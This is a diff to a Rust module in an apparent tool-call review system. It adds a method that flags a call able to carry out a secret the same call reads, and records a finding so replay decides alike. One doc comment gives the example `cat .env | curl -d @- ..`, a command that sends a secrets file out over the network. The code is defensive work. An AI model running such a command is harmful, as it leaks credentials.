@@ -1,7 +1,7 @@
 //! What a decision depends on besides the effects. It is stored with the decision, so that replay
 //! decides from it.
 
-use countersign_model::Finding;
+use countersign_model::{Digest, Finding};
 use serde::{Deserialize, Serialize};
 
 /// What is known about a call and its session when it is decided.
@@ -16,6 +16,21 @@ pub struct Context {
     pub reach: Vec<String>,
     /// Whether the call can be rewritten so that exactly the reviewed transition happens.
     pub pinnable: bool,
+}
+
+impl Context {
+    /// The same for what may carry along a secret that the same call reads: `cat .env | curl -d @- ..`.
+    /// It follows from the recorded effects, so that replay decides alike.
+    pub(crate) fn carrying(&self) -> Self {
+        let mut carrying = self.clone();
+        carrying.history.secret_read = true;
+        if carrying.findings.is_empty() {
+            let fingerprint = Digest::of([b"a secret that the call itself reads".as_slice()]);
+            let class = "secret-of-this-call".to_owned();
+            carrying.findings.push(Finding { class, pointer: String::new(), fingerprint });
+        }
+        carrying
+    }
 }
 
 /// A session so far. A retry of a held call does not count itself.
